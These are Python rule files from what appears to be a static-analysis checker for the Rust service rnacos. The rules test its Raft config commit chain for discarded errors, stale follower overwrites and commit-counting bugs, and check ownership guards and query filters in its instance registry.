        ck.require(len(calls) == 2, 'R06a', 'ConfigAsyncCmd:raft-requests', h.where(), 'Add/Delete do not both go through send_raft_request (%d)' % len(calls))
        for b in inner:
            for s in b.calls(re.escape(CA + '::send_raft_request') + '$'):
                ck.require(util.awaited(b, s), 'R06a', 'ConfigAsyncCmd:awaited', s.where(), 'send_raft_request is not awaited')
                vg = [v for (a, v) in util.variant_guards(b, s.bb) if a and a.endswith('ConfigAsyncCmd')]
                a = [x for x in cfg.guard_atoms(b, s.bb)]
        # request variants: Add -> ConfigSet, Delete -> ConfigRemove
        for b in inner:
            for (i, j, st) in b.aggregates(r'raft::store::ClientRequest$'):
                vg = [v for (a, v) in util.variant_guards(b, i) if a and a.endswith('ConfigAsyncCmd')]
                want = {'ConfigSet': 'Add', 'ConfigRemove': 'Delete'}.get(st['rv']['variant'])
                ck.require(want is not None and vg == [want], 'R06a', 'ConfigAsyncCmd:%s' % st['rv']['variant'], b.where(i),
                           'ClientRequest::%s is built under ConfigAsyncCmd arm %s' % (st['rv']['variant'], vg))
    ck.floor('R06a', 'bodies on the config commit chain', len(bodies), 6)

    ck.rule('R06b', 'every caller of ConfigRoute::{set_config,del_config} branches on the Result (match / if is_ok / ?); listed exception: '
                    'the zip bulk import')
    cg = CallGraph(fb)
    n = 0
    for target in (CR + 'set_config', CR + 'del_config'):
        for b in fb.bodies.values():
            for s in b.calls(re.escape(target) + '$'):
                n += 1
                ck.analysed(b)
                root = fb.root_of(b.name)
                disc = [x for (x, how) in util.discard_sites(b) if x.callee.endswith('::ok') and _from(b, x, s)]
                t = Taint(b, local_src=[s.dst] if isinstance(s.dst, int) else [])
                branched = False
                for (src, dst, lab, term) in cfg.switch_edges(b):
                    if t.op_tainted(term['discr']):
                        branched = True
                if root in CALLER_EXCEPTIONS:
                    ck.ok('R06b', 'caller:%s' % root, s.where(), CALLER_EXCEPTIONS[root])
                    continue
                ck.require(branched and not disc, 'R06b', 'caller:%s:%s' % (root, target.split('::')[-1]), s.where(),
                           '%s calls %s and does not branch on its result: a failed write is reported like a successful one' % (root, target))
    ck.floor('R06b', 'callers of the config route', n, 7)

    ck.rule('R06c', 'follower side: ConfigCmd::SetTmpValue is sent only after the RouterResponse of the leader was decoded (serde_json::from_slice ?), '
                    'and only in set_config\'s Remote arm')
    b = fb.main(CR + 'set_config') if fb.has(CR + 'set_config') else None
    if b:
        tmp = util.sends(b, r'config::core::ConfigCmd$', 'SetTmpValue')
        ck.require(len(tmp) >= 1, 'R06c', 'set_config:SetTmpValue', b.where(), 'SetTmpValue site not found')
        dec = b.calls(r'serde_json::from_slice')
        snd = b.calls(r'RaftClusterRequestSender::send_request$')
        for (s, m, v, a) in tmp:
            ck.require(bool(dec) and cfg.dominates_blocks(b, {x.bb for x in dec}, s.bb) and bool(snd) and cfg.dominates_blocks(b, {x.bb for x in snd}, s.bb),
                       'R06c', 'set_config:tmp-after-leader-answer', s.where(),
                       'the follower writes its temporary value before the leader answered')
            vg = util.variant_guards(b, s.bb)
            n_cont = sum(1 for a in cfg.guard_atoms(b, s.bb) if a[0] == 'variant' and a[2] == 'Continue')
            ck.require(any(vv == 'Remote' for (_, vv) in vg) and n_cont >= 2, 'R06c',
                       'set_config:tmp-only-on-success', s.where(), 'SetTmpValue is not under the success (?) edges of send_request and decode: %s' % sorted(vg))
        # Unknown leader -> Err
        errs = [i for (i, j, st) in b.aggregates(r'std::result::Result$', 'Err')]
        ck.require(any(any(vv == 'Unknown' for (_, vv) in util.variant_guards(b, i)) for i in errs), 'R06c', 'set_config:unknown-leader-is-error', b.where(),
                   'an unknown leader is not answered with an error')
    ck.rule('R06d', 'leader side of a routed write: handle_route answers RouterRequest::{ConfigSet,ConfigDel} from the awaited result of the '
                    'same ConfigRoute functions (error propagated with ?)')
    hr = [x for x in fb.find(r'^rnacos::raft::cluster::handle_route') if not x.parent]
    ck.require(len(hr) >= 1, 'R06d', 'handle_route:exists', '-', 'raft::cluster::handle_route not found')
    for x in hr:
        m = fb.main(x.name)
        ck.analysed(m)
        for var, arm in (('Add', 'ConfigSet'), ('Delete', 'ConfigDel')):
            sd = util.sends(m, r'config::core::ConfigAsyncCmd$', var)
            ck.require(len(sd) >= 1 and all(_x[0].callee.endswith('::send') and util.awaited(m, _x[0]) for _x in sd), 'R06d', 'handle_route:%s' % arm, m.where(),
                       'routed %s is not served by an awaited ConfigAsyncCmd::%s' % (arm, var))
            for (s, _, _, _) in sd:
                vg = [vv for (a, vv) in util.variant_guards(m, s.bb) if a and a.endswith('RouterRequest')]
                ck.require(vg == [arm], 'R06d', 'handle_route:%s:arm' % arm, s.where(), 'ConfigAsyncCmd::%s is sent under %s' % (var, vg))
                disc = [d for (d, how) in util.discard_sites(m) if _from(m, d, s)]
                t = Taint(m, local_src=[s.dst] if isinstance(s.dst, int) else [])
                n_try = sum(1 for c in m.calls(r'std::ops::Try>::branch$') if t.op_tainted(c.args[0]))
                ck.require(n_try >= 2 and not disc, 'R06d', 'handle_route:%s:propagates' % arm, s.where(),
                           'the result of the routed %s is not propagated to the follower (needs both ? on send().await)' % arm)


def _from(b, discard_site, src_site):
    if not isinstance(src_site.dst, int):
        return False
    t = Taint(b, local_src=[src_site.dst])
    return bool(discard_site.args) and t.op_tainted(discard_site.args[0])


def r06f(ck, fb):
    ck.rule('R06f', 'the follower\'s temporary value never replaces a newer committed value: ConfigActor::set_tmp_config runs when the leader\'s answer '
                    'for a routed write arrives, which can be AFTER the follower applied that write and a later one for the same key; the overwrite of '
                    'an existing entry must therefore be conditional on something that tells "this entry is older than my write": a test that '
                    'depends on more than the new content and the stored content / md5 / tmp mark (equal or different content does not say which '
                    'is newer). (Structural necessary condition; which ordering datum is right is not decided.)')
    b = ck.body(CA + '::set_tmp_config', 'R06f')
    if not b:
        return
    from rn.facts import pl_proj, pl_fields
    # what can order the temporary value against the stored one: anything but the new content itself and the stored content / md5 / tmp mark
    # (equal or different content says nothing about which of the two is newer). Today the message carries key and value only.
    nargs = b.rec.get('argc', 3)
    not_ordering = ('content', 'md5', 'tmp', 'cache')

    def orders(p):
        fs = pl_fields(p)
        return bool(fs) and not str(fs[-1]).isdigit() and fs[-1] not in not_ordering
    t_other = Taint(b, place_src=orders, local_src=[l for l in range(4, nargs + 1)])
    n = 0
    for (i, j, st) in b.stmts():
        d = st.get('d')
        if not isinstance(d, dict):
            continue
        fs = [e.get('f') for e in pl_proj(d) if isinstance(e, dict) and 'f' in e]
        if fs[-1:] != ['content']:
            continue
        n += 1
        atoms = [a for a in cfg.guard_atoms(b, i) if not (a[0] == 'variant' and a[2] == 'Some') and a[0] != 'other']
        ordering = []
        for a in atoms:
            sw = a[-1]
            term = b.blocks[sw]['t'] if isinstance(sw, int) and sw < len(b.blocks) else None
            if term is not None and term.get('k') == 'switch' and t_other.op_tainted(term['discr']):
                ordering.append(a)
        ck.require(bool(ordering), 'R06f', 'set_tmp_config:overwrites-unconditionally', b.where(i),
                   'set_tmp_config replaces the content of an existing entry without looking at anything that tells which of the two is newer%s: '
                   'apply(A), apply(B), then the late temporary value A of the routed write leaves this node serving A while every other node '
                   'serves B, until the key is written again' % (
                       ' (the only test, %s, compares contents)' % [cfg.fmt_atom(a) for a in atoms] if atoms else ''),
                   'guarded by %s' % [cfg.fmt_atom(a) for a in ordering])
    ck.floor('R06f', 'content overwrite sites in set_tmp_config', n, 1)


def r06h(ck, fb):
    """Two clauses of C06 are decided inside the Raft core the repository builds against (crate async_raft_ext as Cargo resolves it for this
    tree: registry version, path or [patch]); its MIR is extracted with the same driver (bin/extract_dep.sh)."""
    from rn import facts as F
    from rn.callgraph import CallGraph
    ck.rule('R06h', 'a node that joined counts for the commit decision on the leader it joined through: the leader decides "committed" over the '
                    'replication states in LeaderState.nodes (handle_update_match_index, replicate_client_request: empty nodes = "no voting nodes, '
                    'committed"). A node added through add_non_voter + change_membership (what RNACOS_RAFT_JOIN_ADDR / join_node do) has its state in '
                    'LeaderState.non_voters; somewhere outside LeaderState::run (which only runs at election) it must be inserted into nodes. '
                    'Otherwise the node that formed the cluster commits, and answers success, on its own log alone until another node is elected')
    ck.rule('R06i', 'last_applied never moves over an entry that was not handed to the state machine: in client_request_post_commit the branch for '
                    'the leader\'s own first entry (Internal) assigns last_applied = entry.index; entries received as a follower whose commit index '
                    'had not arrived before the election lie below it. The assignment must be preceded by a call that reaches '
                    'RaftStorage::replicate_to_state_machine / apply_entry_to_state_machine, otherwise an acknowledged publish is in every log and '
                    'applied by no survivor')
    try:
        fd = F.load_dep(getattr(fb, 'repo', '/repo'), 'async_raft_ext')
    except Exception as e:
        ck.bad('R06h', 'anchor:raft-core-facts', '-', 'the Raft core crate (async_raft_ext) could not be extracted: %s' % e)
        return
    LS = 'async_raft_ext::core::LeaderState'
    ins = []
    counted = []
    for b in fd.bodies.values():
        for s0 in b.sites:
            nm = s0.full or s0.callee or ''
            if re.search(r'(BTreeMap|HashMap)::<.*>::insert$', nm) and util.recv_fields(b, s0)[-1:] == ['nodes'] and 'ReplicationState' in nm:
                ins.append((b, s0))
        if re.search(r'LeaderState<.*>>::(handle_update_match_index|replicate_client_request)', b.name):
            if any(f == 'nodes' and o == LS for (o, f, _, _) in b.field_reads()):
                counted.append(b)
    if not ck.require(len(ins) >= 1 and len(counted) >= 1, 'R06h', 'anchor:LeaderState.nodes', '-',
                      'LeaderState.nodes is no longer what the commit decision reads (%d inserts, %d readers found): the rule does not know this Raft core' % (len(ins), len(counted))):
        return
    for x in counted:
        ck.analysed(x)
    late = [(b, s0) for (b, s0) in ins if not re.search(r'LeaderState::<.*>::run(::|$)', b.name)]
    ck.require(len(late) >= 1, 'R06h', 'raft-core:joined-node-becomes-voter', ins[0][1].where().split('/src/')[-1],
               'the only insert into LeaderState.nodes is in LeaderState::run (election time): the state of a node added later stays in non_voters and is '
               'never counted. Real binary, 3 nodes formed with RNACOS_RAFT_JOIN_ADDR: with nodes 2 and 3 killed, a publish on node 1 is answered '
               'true / 200; after node 1 is killed and 2, 3 restarted the key is 404 on the majority; node 1 later serves it alone',
               'inserted in %s' % (late[0][0].name.split('>>::')[-1][:60] if late else ''))
    # R06i
    cg = CallGraph(fd)
    n = 0
    for b in fd.bodies.values():
        if 'client_request_post_commit' not in b.name:
            continue
        for (o, f, bb, st) in b.field_writes():
            if f != 'last_applied':
                continue
            atoms = cfg.guard_atoms(b, bb)
            if not any(a[0] == 'variant' and a[2] == 'Internal' for a in atoms):
                continue
            n += 1
            ck.analysed(b)
            ok = False
            for s0 in b.sites:
                if s0.bb == bb or not cfg.dominates_blocks(b, [s0.bb], bb):
                    continue
                tg = cg.targets(s0)
                reach = cg.reachable(tg) if tg else set()
                names = set(reach) | set([s0.full or '', s0.callee or ''])
                calls_apply = any(re.search(r'replicate_to_state_machine|apply_entry_to_state_machine', x or '') for x in names)
                if not calls_apply:
                    for r0 in reach:
                        rb = fd.bodies.get(r0)
                        if rb and rb.calls(r'RaftStorage.*::(replicate_to_state_machine|apply_entry_to_state_machine)$'):
                            calls_apply = True
                            break
                # only calls made under the same Internal branch count
                if calls_apply and any(a[0] == 'variant' and a[2] == 'Internal' for a in cfg.guard_atoms(b, s0.bb)):
                    ok = True
            ck.require(ok, 'R06i', 'raft-core:internal-entry-applies-what-it-skips', b.where(bb).split('/src/')[-1],
                       'the new leader sets last_applied to the index of its own first entry without applying the entries below it. Real binary: publish '
                       'K1 acknowledged by leader L, kill -9 L within the heartbeat interval: both survivors have K1 in their logs and answer 404, also '
                       'after later writes; nodes that are restarted replay the log and serve it, the others do not',
                       'outstanding entries applied first')
    ck.floor('R06i', 'last_applied assignments on the Internal branch', n, 1)
