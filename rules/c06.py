"""C06 Cluster: acknowledged config writes are never lost; all nodes converge (error-discipline clause only)."""
import re
from rn import cfg, util
from rn.flow import Taint
from rn.callgraph import CallGraph

CR = 'rnacos::raft::cluster::route::ConfigRoute::'
CA = 'rnacos::config::core::ConfigActor'
ASYNC_H = '<rnacos::config::core::ConfigActor as actix::Handler<rnacos::config::core::ConfigAsyncCmd>>::handle'

# callers of ConfigRoute::{set_config,del_config} whose API contract has no per-entry result (one reason each)
CALLER_EXCEPTIONS = {
    'rnacos::console::config_api::import_config': 'zip bulk import: per-entry results are not part of that API\'s response',
}


def chain_bodies(fb):
    names = [CR + 'set_config', CR + 'del_config', ASYNC_H, CA + '::send_raft_request']
    out = []
    for n in names:
        if fb.has(n):
            out.extend(fb.tree(n))
    return names, out


def run(ck, fb):
    _run0(ck, fb)
    r06f(ck, fb)
    ck.borrow('rules.c02', {'R02n': 'R06g'}, 'a node that restarts right after a leader change must report the term of its last entry: the vote / append fast path compares it')


def _run0(ck, fb):
    ck.explanation = (
        'Decides only the last sentence of the property ("a request that could not be committed is answered with an error, not with '
        'success") as error discipline on the commit chain: from ConfigRoute::{set_config,del_config} through Handler<ConfigAsyncCmd> and '
        'send_raft_request to Raft::client_write / RaftClusterRequestSender::send_request no Result is discarded; every endpoint that calls '
        'the route branches on its result; the follower records its temporary value only after the leader\'s answer was decoded; the '
        'leader-side router answers a routed write from the result of the same route functions.')
    ck.undecided = 'Does not decide durability or convergence under crash/partition schedules (needs running nodes).'
    ck.borrow('rules.c07', {'R07d': 'R06e'}, 'a follower must not drop a committed entry: do_send (unbounded) only, never try_send / detached tasks')
    ck.rule('R06a', 'no Result on the config commit chain is discarded (.ok() / unused): ConfigRoute::{set_config,del_config}, '
                    'Handler<ConfigAsyncCmd>, send_raft_request; client_write is awaited with ?')
    names, bodies = chain_bodies(fb)
    for n in names:
        ck.body(n, 'R06a')
    n_sites = 0
    for b in bodies:
        ck.analysed(b)
        for (s, how) in util.discard_sites(b):
            if s.expanded:
                continue
            cal = s.callee or ''
            if re.search(r'^std::(vec|collections|mem)|::insert$|::remove$|::take$', cal):
                continue
            n_sites += 1
            # what was discarded: find the innermost interesting producer
            prod = cal
            if cal.endswith('::ok') and s.args:
                d = cfg.describe_operand(b, s.args[0])
                seen = 0
                while d['k'] in ('call', 'place') and seen < 8:
                    if d['k'] == 'place':
                        d = d['root']
                        seen += 1
                        continue
                    nm = cfg.callee_name(d['term']) or ''
                    prod = nm
                    if re.search(r'send_raft_request|Addr::<A>::send|client_write|send_request', nm):
                        break
                    if not d['term']['args']:
                        break
                    d = cfg.describe_operand(b, d['term']['args'][0])
                    seen += 1
            ck.bad('R06a', '%s:discard:%s' % (b.name, prod.split('::')[-1]), s.where(),
                   'the result of %s is thrown away (%s) on the config commit chain: when the Raft write fails (lost leadership, '
                   'close-write state, shutdown) the client is still answered with success' % (prod, how))
    sr = fb.main(CA + '::send_raft_request') if fb.has(CA + '::send_raft_request') else None
    if sr:
        cw = sr.calls(r'async_raft_ext::Raft::<.*>::client_write$|Raft::<D, R, N, S>::client_write$')
        ck.require(len(cw) >= 1 and all(util.awaited(sr, _x) for _x in cw), 'R06a', 'send_raft_request:client_write', sr.where(), 'client_write is not awaited')
        if cw:
            oks = util.ok_return_blocks(sr)
            # an Ok(()) on the path through client_write must be under its Continue arm
            after = cfg.reach_from(sr, [sr.blocks[cw[0].bb]['t']['t']])
            okc = True
            for i in oks:
                if i in after:
                    vg = util.variant_guards(sr, i)
                    if not any(v == 'Continue' for (_, v) in vg) and cfg.dominates_blocks(sr, {cw[0].bb}, i):
                        okc = False
            ck.require(okc, 'R06a', 'send_raft_request:propagates', sr.where(), 'a client_write error does not reach the caller')
    h = fb.bodies.get(ASYNC_H)
    if h:
        inner = fb.tree(ASYNC_H)
        calls = [s for b in inner for s in b.calls(re.escape(CA + '::send_raft_request') + '$')]
        ck.require(len(calls) == 2, 'R06a', 'ConfigAsyncCmd:raft-requests', h.where(), 'Add/Delete do not both go through send_raft_request (%d)' % len(calls))
        for b in inner:
            for s in b.calls(re.escape(CA + '::send_raft_request') + '$'):
                ck.require(util.awaited(b, s), 'R06a', 'ConfigAsyncCmd:awaited', s.where(), 'send_raft_request is not awaited')
                vg = [v for (a, v) in util.variant_guards(b, s.bb) if a and a.endswith('ConfigAsyncCmd')]
                a = [x for x in cfg.guard_atoms(b, s.bb)]
        # request variants: Add -> ConfigSet, Delete -> ConfigRemove
        for b in inner:
            for (i, j, st) in b.aggregates(r'raft::store::ClientRequest$'):
                vg = [v for (a, v) in util.variant_guards(b, i) if a and a.endswith('ConfigAsyncCmd')]
                want = {'ConfigSet': 'Add', 'ConfigRemove': 'Delete'}.get(st['rv']['variant'])
                ck.require(want is not None and vg == [want], 'R06a', 'ConfigAsyncCmd:%s' % st['rv']['variant'], b.where(i),
                           'ClientRequest::%s is built under ConfigAsyncCmd arm %s' % (st['rv']['variant'], vg))
    ck.floor('R06a', 'bodies on the config commit chain', len(bodies), 6)

    ck.rule('R06b', 'every caller of ConfigRoute::{set_config,del_config} branches on the Result (match / if is_ok / ?); listed exception: '
                    'the zip bulk import')
    cg = CallGraph(fb)
    n = 0
    for target in (CR + 'set_config', CR + 'del_config'):
        for b in fb.bodies.values():
            for s in b.calls(re.escape(target) + '$'):
                n += 1
                ck.analysed(b)
                root = fb.root_of(b.name)
                disc = [x for (x, how) in util.discard_sites(b) if x.callee.endswith('::ok') and _from(b, x, s)]
                t = Taint(b, local_src=[s.dst] if isinstance(s.dst, int) else [])
                branched = False
                for (src, dst, lab, term) in cfg.switch_edges(b):
                    if t.op_tainted(term['discr']):
                        branched = True
                if root in CALLER_EXCEPTIONS:
                    ck.ok('R06b', 'caller:%s' % root, s.where(), CALLER_EXCEPTIONS[root])
                    continue
                ck.require(branched and not disc, 'R06b', 'caller:%s:%s' % (root, target.split('::')[-1]), s.where(),
                           '%s calls %s and does not branch on its result: a failed write is reported like a successful one' % (root, target))
    ck.floor('R06b', 'callers of the config route', n, 7)

    ck.rule('R06c', 'follower side: ConfigCmd::SetTmpValue is sent only after the RouterResponse of the leader was decoded (serde_json::from_slice ?), '
                    'and only in set_config\'s Remote arm')
    b = fb.main(CR + 'set_config') if fb.has(CR + 'set_config') else None
    if b:
        tmp = util.sends(b, r'config::core::ConfigCmd$', 'SetTmpValue')
        ck.require(len(tmp) >= 1, 'R06c', 'set_config:SetTmpValue', b.where(), 'SetTmpValue site not found')
        dec = b.calls(r'serde_json::from_slice')
        snd = b.calls(r'RaftClusterRequestSender::send_request$')
        for (s, m, v, a) in tmp:
            ck.require(bool(dec) and cfg.dominates_blocks(b, {x.bb for x in dec}, s.bb) and bool(snd) and cfg.dominates_blocks(b, {x.bb for x in snd}, s.bb),
                       'R06c', 'set_config:tmp-after-leader-answer', s.where(),
                       'the follower writes its temporary value before the leader answered')
            vg = util.variant_guards(b, s.bb)
            n_cont = sum(1 for a in cfg.guard_atoms(b, s.bb) if a[0] == 'variant' and a[2] == 'Continue')
            ck.require(any(vv == 'Remote' for (_, vv) in vg) and n_cont >= 2, 'R06c',
                       'set_config:tmp-only-on-success', s.where(), 'SetTmpValue is not under the success (?) edges of send_request and decode: %s' % sorted(vg))
        # Unknown leader -> Err
        errs = [i for (i, j, st) in b.aggregates(r'std::result::Result$', 'Err')]
        ck.require(any(any(vv == 'Unknown' for (_, vv) in util.variant_guards(b, i)) for i in errs), 'R06c', 'set_config:unknown-leader-is-error', b.where(),
                   'an unknown leader is not answered with an error')
    ck.rule('R06d', 'leader side of a routed write: handle_route answers RouterRequest::{ConfigSet,ConfigDel} from the awaited result of the '
                    'same ConfigRoute functions (error propagated with ?)')
    hr = [x for x in fb.find(r'^rnacos::raft::cluster::handle_route') if not x.parent]
    ck.require(len(hr) >= 1, 'R06d', 'handle_route:exists', '-', 'raft::cluster::handle_route not found')
    for x in hr:
        m = fb.main(x.name)
        ck.analysed(m)
        for var, arm in (('Add', 'ConfigSet'), ('Delete', 'ConfigDel')):
            sd = util.sends(m, r'config::core::ConfigAsyncCmd$', var)
            ck.require(len(sd) >= 1 and all(_x[0].callee.endswith('::send') and util.awaited(m, _x[0]) for _x in sd), 'R06d', 'handle_route:%s' % arm, m.where(),
                       'routed %s is not served by an awaited ConfigAsyncCmd::%s' % (arm, var))
            for (s, _, _, _) in sd:
                vg = [vv for (a, vv) in util.variant_guards(m, s.bb) if a and a.endswith('RouterRequest')]
                ck.require(vg == [arm], 'R06d', 'handle_route:%s:arm' % arm, s.where(), 'ConfigAsyncCmd::%s is sent under %s' % (var, vg))
                disc = [d for (d, how) in util.discard_sites(m) if _from(m, d, s)]
                t = Taint(m, local_src=[s.dst] if isinstance(s.dst, int) else [])
                n_try = sum(1 for c in m.calls(r'std::ops::Try>::branch$') if t.op_tainted(c.args[0]))
                ck.require(n_try >= 2 and not disc, 'R06d', 'handle_route:%s:propagates' % arm, s.where(),
                           'the result of the routed %s is not propagated to the follower (needs both ? on send().await)' % arm)


def _from(b, discard_site, src_site):
    if not isinstance(src_site.dst, int):
        return False
    t = Taint(b, local_src=[src_site.dst])
    return bool(discard_site.args) and t.op_tainted(discard_site.args[0])


def r06f(ck, fb):
    ck.rule('R06f', 'the follower\'s temporary value never replaces a newer committed value: ConfigActor::set_tmp_config runs when the leader\'s answer '
                    'for a routed write arrives, which can be AFTER the follower applied that write and a later one for the same key; the overwrite of '
                    'an existing entry must therefore be conditional on something that tells "this entry is older than my write": a test that '
                    'depends on more than the new content and the stored content / md5 / tmp mark (equal or different content does not say which '
                    'is newer). (Structural necessary condition; which ordering datum is right is not decided.)')
    b = ck.body(CA + '::set_tmp_config', 'R06f')
    if not b:
        return
    from rn.facts import pl_proj, pl_fields
    # what can order the temporary value against the stored one: anything but the new content itself and the stored content / md5 / tmp mark
    # (equal or different content says nothing about which of the two is newer). Today the message carries key and value only.
    nargs = b.rec.get('argc', 3)
    not_ordering = ('content', 'md5', 'tmp', 'cache')

    def orders(p):
        fs = pl_fields(p)
        return bool(fs) and not str(fs[-1]).isdigit() and fs[-1] not in not_ordering
    t_other = Taint(b, place_src=orders, local_src=[l for l in range(4, nargs + 1)])
    n = 0
    for (i, j, st) in b.stmts():
        d = st.get('d')
        if not isinstance(d, dict):
            continue
        fs = [e.get('f') for e in pl_proj(d) if isinstance(e, dict) and 'f' in e]
        if fs[-1:] != ['content']:
            continue
        n += 1
        atoms = [a for a in cfg.guard_atoms(b, i) if not (a[0] == 'variant' and a[2] == 'Some') and a[0] != 'other']
        ordering = []
        for a in atoms:
            sw = a[-1]
            term = b.blocks[sw]['t'] if isinstance(sw, int) and sw < len(b.blocks) else None
            if term is not None and term.get('k') == 'switch' and t_other.op_tainted(term['discr']):
                ordering.append(a)
        ck.require(bool(ordering), 'R06f', 'set_tmp_config:overwrites-unconditionally', b.where(i),
                   'set_tmp_config replaces the content of an existing entry without looking at anything that tells which of the two is newer%s: '
                   'apply(A), apply(B), then the late temporary value A of the routed write leaves this node serving A while every other node '
                   'serves B, until the key is written again' % (
                       ' (the only test, %s, compares contents)' % [cfg.fmt_atom(a) for a in atoms] if atoms else ''),
                   'guarded by %s' % [cfg.fmt_atom(a) for a in ordering])
    ck.floor('R06f', 'content overwrite sites in set_tmp_config', n, 1)
