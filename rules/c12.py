"""C12 Registry queries return exactly live registrations; disconnect removes own only."""
import re
from rn import cfg, util
from rn.flow import Taint, field_place_src
from rn.tables import check_table
from rn.absint import Ref, SymObj, BV, Opaque
from .c11 import cond_on, field_cond
from . import c11

SV = 'rnacos::naming::service::Service::'
NA = 'rnacos::naming::core::NamingActor::'
FU = 'rnacos::naming::filter::InstanceFilterUtils::'


def run(ck, fb):
    _run0(ck, fb)
    r12h(ck, fb)
    r12j(ck, fb)
    r12k(ck, fb)
    r12l(ck, fb)
    r12m(ck, fb)
    r12o(ck, fb)
    r12p(ck, fb)
    r12q(ck, fb)
    ck.borrow('rules.c13', {'R13m': 'R12s'}, 'a registered, healthy ephemeral instance must be returned by a healthy-only query: a late probe result for the persistent instance that used to live at the address must not mark it unhealthy')
    ck.borrow('rules.c11', {'R11g': 'R12n'}, 'a connection that ends takes its ephemeral instances with it only if every instance it registered is in its owner set')
    ck.borrow('rules.c13', {'R13b': 'R12i'}, 'a live gRPC or persistent registration must not be expired by a stale heartbeat entry queued for the same address')


def _run0(ck, fb):
    ck.explanation = (
        'Decides necessary conditions of "queries return exactly the live registrations and a disconnect removes only the connection\'s own '
        'ephemeral instances": (a) Service::remove_instance refuses (returns None before touching the map) when the stored instance is '
        'ephemeral and owned by a different non-empty client id; (b) the disconnect path passes the closing client id and skips '
        'persistent instances; (c) the query filter closures equal (enabled || !only_enable) && (healthy || !only_healthy) (exhaustive '
        'truth table) and iterate over all instances; filter_healthy_instances keeps exactly healthy ones; the protection-threshold branch '
        'compares healthy/total with the threshold; (d) a new registration stores the address, ephemeral flag, enabled flag and weight it '
        'came with (the new branch assigns none of them); (e) queries read the service found under the requested key.')
    ck.undecided = 'Does not decide completeness of query results for arbitrary histories.'
    ck.rule('R12a', 'ownership guard: in Service::remove_instance, for client_id = Some(c), instances.remove is not reachable when '
                    'old.ephemeral && !c.is_empty() && old.client_id != c (that path returns None)')
    rm = ck.body(SV + 'remove_instance', 'R12a')
    if rm:
        rmv = util.mut_calls_on_field(rm, 'instances', r'HashMap::<K, V, S, A>::remove$')
        ck.require(len(rmv) == 1, 'R12a', 'remove_instance:removal-site', rm.where(), 'instances.remove not found exactly once')
        # find the refusing return: a block assigning None to _0 guarded by ephemeral==true, is_empty==false, ne==true
        refusals = []
        emp_on_stored = []
        for (i, j, st) in rm.aggregates(r'std::option::Option$', 'None'):
            if st['d'] != 0:
                continue
            atoms = cfg.guard_atoms(rm, i)
            e = any(a[0] == 'field' and a[1][-1:] == ['ephemeral'] and a[2] is True for a in atoms)
            ne = False
            for a in atoms:
                if a[0] == 'call' and re.search(r'::(ne|eq)$', a[1] or ''):
                    changed = (a[1].endswith('ne') and a[2] is True) or (a[1].endswith('eq') and a[2] is False)
                    srcs = [cfg.strip_calls(rm, cfg.describe_operand(rm, x)) for x in a[3]['args']]
                    has_old = any(d['k'] == 'place' and d['fields'][-1:] == ['client_id'] for d in srcs)
                    if changed and has_old:
                        ne = True
            emp = False
            for a in atoms:
                if a[0] == 'call' and (a[1] or '').endswith('is_empty') and a[2] is False:
                    # "a deregistration without a client id (HTTP, console) may remove any ephemeral instance": the emptiness that is tested is the
                    # REQUESTER's - the value that comes from the parameter, not a field of the stored instance
                    d0 = cfg.strip_calls(rm, cfg.describe_operand(rm, a[3]['args'][0]))
                    stored = d0['k'] == 'place' and d0['fields'][-1:] == ['client_id']
                    if not stored:
                        emp = True
                    else:
                        emp_on_stored.append(i)
            if e and ne and emp:
                refusals.append(i)
        ck.require(len(refusals) >= 1, 'R12a', 'remove_instance:refuses-foreign-ephemeral', rm.where(emp_on_stored[0]) if emp_on_stored else rm.where(),
                   'Service::remove_instance no longer refuses exactly "ephemeral, requester has a client id, and it differs from the stored one"%s'
                   % (': the emptiness test is on the STORED instance\'s client id - an HTTP / console deregistration of a gRPC-registered instance is '
                      'refused (the address stays listed), a foreign connection\'s deregistration of an HTTP-registered instance is carried out'
                      if emp_on_stored else ''))
        for i in refusals:
            for s in rmv:
                ck.require(s.bb not in cfg.reach_from(rm, [i]), 'R12a', 'remove_instance:refusal-returns', rm.where(i), 'the refusal path still reaches instances.remove')
        # the guard is consulted before the removal on the Some(client) path
        for s in rmv:
            gets = util.mut_calls_on_field(rm, 'instances', r'HashMap::<K, V, S, A>::get$')
            ck.require(len(gets) == 1 and s.bb in cfg.reach_from(rm, [gets[0].bb]), 'R12a', 'remove_instance:check-before-remove', s.where(), 'the ownership check does not precede the removal')
    ck.rule('R12b', 'disconnect passes the owner and spares persistent instances: remove_client_instance calls remove_instance(.., Some(client_id)) '
                    'with its own parameter, and skips (continue) instances whose ephemeral flag is false; RemoveClient / RemoveClientFromCluster '
                    'arms call remove_client_instance with the message\'s client id')
    rc = ck.body(NA + 'remove_client_instance', 'R12b')
    if rc:
        cs = rc.calls(re.escape(NA + 'remove_instance') + '$')
        ck.require(len(cs) >= 1, 'R12b', 'remove_client_instance:calls-remove', rc.where(), 'disconnect does not go through remove_instance')
        for s in cs:
            a = util.agg_of(rc, s.args[3])
            t = Taint(rc, local_src=[2])
            ck.require(a is not None and a['variant'] == 'Some' and t.op_tainted(a['ops'][0]), 'R12b', 'remove_client_instance:passes-owner', s.where(),
                       'remove_instance is called without the closing client id (None disables the ownership guard)')
            # persistent instances are skipped
            ok = False
            for (src, dst, lab, term) in cfg.switch_edges(rc):
                d = cfg.describe_operand(rc, term['discr'])
                neg = False
                while d['k'] == 'un' and d['op'] == 'Not':
                    neg = not neg
                    d = cfg.describe_operand(rc, d['a'])
                if d['k'] == 'place' and d['fields'][-1:] == ['ephemeral']:
                    pol = cfg.edge_polarity(term, lab)
                    if neg:
                        pol = not pol
                    if pol is False:
                        nxt = [x.bb for x in rc.calls(r'Iterator>::next$')]
                        r = cfg.reach_from(rc, [dst], blocked_blocks=nxt)
                        if s.bb not in r:
                            ok = True
            ck.require(ok, 'R12e', 'remove_client_instance:spares-persistent', s.where(),
                       'closing a connection removes every instance recorded for it, including persistent ones (ephemeral == false)')
    ck.rule('R12e', 'disconnect spares persistent instances (see R12b; separate key because it was a finding)')
    h = ck.body('<rnacos::naming::core::NamingActor as actix::Handler<rnacos::naming::core::NamingCmd>>::handle', 'R12b')
    if h:
        for arm in ('RemoveClient', 'RemoveClientFromCluster'):
            cs = [s for s in h.calls(re.escape(NA + 'remove_client_instance') + '$') if ('rnacos::naming::core::NamingCmd', arm) in util.variant_guards(h, s.bb)]
            ck.require(len(cs) >= 1, 'R12b', 'handle:%s' % arm, h.where(), 'NamingCmd::%s does not remove the client\'s instances' % arm)
    ck.rule('R12c', 'query filter truth table: closures of get_all_instances / select_one_instance == (enabled || !only_enable) && '
                    '(healthy || !only_healthy); filter_healthy_instances closure == healthy; get_all_instances iterates instances.values()')
